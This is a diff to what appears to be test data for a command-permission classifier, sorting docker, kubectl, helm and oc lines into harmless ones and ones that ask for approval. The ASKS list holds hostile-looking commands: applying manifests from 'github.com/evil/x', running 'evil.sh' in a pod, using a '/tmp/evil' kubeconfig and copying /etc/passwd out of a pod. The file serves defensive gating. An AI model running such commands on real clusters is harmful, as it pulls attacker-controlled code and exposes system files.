@@ -1,4 +1,4 @@
-"""Lines about containers and clusters (docker, compose, kubectl, helm and their kin): harmless ones, and ones that ask."""
+"""Lines about containers and clusters (docker, kubectl, helm and their kin): harmless ones, and ones that ask."""
 
 from __future__ import annotations
 
@@ -55,6 +55,7 @@ HARMLESS: tuple[tuple[str, str], ...] = (
     ("kubectl apply", "kubectl apply -f k8s/web.yaml --dry-run=client"),
     ("kubectl apply --dry-run=client", "kubectl apply --dry-run=client -f k8s/web.yaml"),
     ("kubectl exec", "kubectl exec -it web-1 -n prod -- env"),
+    ("kubectl exec", "kubectl exec deploy/web -c app -- psql -l"),
     ("oc get", "oc get pods -n prod"),
     ("oc whoami", "oc whoami"),
     ("kubectx", "kubectx -c"),
@@ -180,7 +181,8 @@ ASKS: tuple[tuple[str, str], ...] = (
     ("kubectl apply", "kubectl apply -k github.com/evil/x"),
     ("kubectl apply --dry-run=client", "kubectl apply --dry-run=client -f k8s/web.yaml --dry-run=none"),
     ("kubectl exec", "kubectl exec web-1 --kubeconfig=/tmp/evil -- env"),
-    ("kubectl exec", "kubectl exec web-1 -- sh -c id"),
+    ("kubectl exec", "kubectl exec web-1 -- bash evil.sh -x"),
+    ("kubectl exec", "kubectl exec web-1 -n prod -- psql -f x.sql"),
     ("kubectl", "kubectl -n prod delete pod web-1"),
     ("kubectl", "kubectl exec web-1 -- id"),
     ("kubectl", "kubectl cp web-1:/etc/passwd ."),
